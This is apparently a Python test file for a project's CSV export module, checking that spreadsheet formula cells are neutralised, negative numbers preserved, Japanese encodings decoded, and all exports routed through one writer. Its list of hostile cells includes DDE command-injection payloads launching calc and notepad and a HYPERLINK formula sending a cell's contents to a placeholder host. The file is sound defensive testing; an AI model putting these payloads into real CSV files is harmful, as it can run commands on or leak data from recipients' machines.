"""The one CSV module: formula cells neutralised, the same way in every export."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from madoguchi.core import csv as core_csv

# Cells a spreadsheet would run (or that start like a formula), as an attacker would type them.
HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"詳細")',
    "+81-3-1234-5678",
    "-1+cmd|' /C calc'!A0",
    "-2+3",
    "-A1",
    "-",
    "--",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
)
# Decimal numbers stay numbers (a core system's negative amount must not become text).
KEPT = ("-5", "-3.25", "0", "12", "", "山田", "'quoted", "a=b")

SRC = Path(__file__).resolve().parents[3]
# Every module that sends a CSV file, and the test that exports hostile cells through it.
CSV_EXPORTS = {
    "applications/handoff/views.py": "applications/tests/test_handoff.py::"
    "test_every_csv_cell_is_excel_safe_in_both_encodings",
    "faq/staff_views.py": "faq/tests/test_csv.py::test_export_neutralises_formula_cells_and_round_trips",
    "region/views.py": "region/tests/test_region_views.py::test_export_neutralises_formula_cells",
    "insights/views.py": "insights/tests/test_csv.py::test_chart_csv_neutralises_formula_cells",
    "region/pages.py": "region/tests/test_survey.py::test_results_csv_neutralises_formula_cells",
}


def is_formula(cell: str) -> bool:
    """What a spreadsheet would treat as a formula (the numbers we keep are not)."""
    return cell.startswith(core_csv.FORMULA_START) and not re.fullmatch(
        r"-?[0-9]+(\.[0-9]+)?", cell
    )


def test_hostile_cells_are_guarded_and_numbers_kept() -> None:
    for value in HOSTILE:
        assert core_csv.excel_safe(value) == "'" + value, value
    for value in KEPT:
        assert core_csv.excel_safe(value) == value, value
    assert core_csv.excel_safe(None) == ""
    assert core_csv.excel_safe(-5) == "-5"


@given(st.text(max_size=30))
def test_no_cell_is_a_formula_and_guarding_round_trips(text: str) -> None:
    safe = core_csv.excel_safe(text)
    assert not is_formula(safe)
    assert core_csv.excel_unguard(safe) == text


def test_the_writer_guards_every_cell_headers_included() -> None:
    buffer = io.StringIO()
    core_csv.writer(buffer).writerows([["=title", "-5"], list(HOSTILE)])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows[0] == ["'=title", "-5"]
    assert rows[1] == ["'" + value for value in HOSTILE]
    assert buffer.getvalue().endswith("\r\n")


def test_decode_utf8_bom_and_shift_jis() -> None:
    assert core_csv.decode("住民票".encode("utf-8-sig")) == "住民票"
    assert core_csv.decode("住民票".encode("cp932")) == "住民票"
    assert core_csv.decode("住民票".encode("cp932"), "shift_jis") == "住民票"


def test_csv_is_written_only_through_this_module_and_every_export_is_tested() -> None:
    """No second CSV writer; every module sending text/csv has a hostile-cell export test."""
    writers, senders = [], set()
    for path in SRC.joinpath("madoguchi").rglob("*.py"):
        relative = path.relative_to(SRC / "madoguchi").as_posix()
        if "/tests/" in f"/{relative}" or relative == "core/csv.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\(", text):
            writers.append(relative)
        if "text/csv" in text:
            senders.add(relative)
    assert writers == [], "write CSV with madoguchi.core.csv.writer (formula cells neutralised)"
    assert senders == set(CSV_EXPORTS), "add the new CSV export and its hostile-cell test here"
    for test in CSV_EXPORTS.values():
        file, name = test.split("::")
        assert f"def {name}(" in SRC.joinpath("madoguchi", file).read_text(encoding="utf-8")
